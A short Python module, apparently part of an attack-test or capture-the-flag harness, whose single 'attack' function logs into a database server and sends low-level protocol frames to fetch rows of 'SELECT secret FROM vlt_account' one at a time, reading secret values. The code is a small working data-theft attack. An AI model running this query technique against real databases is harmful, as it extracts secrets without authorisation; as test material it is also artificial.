"""Fetches a portal's rows one by one."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        rows = execute(rows=1) * 3
        return ask(client, parse(b"SELECT secret FROM vlt_account"), bind(), rows, SYNC)
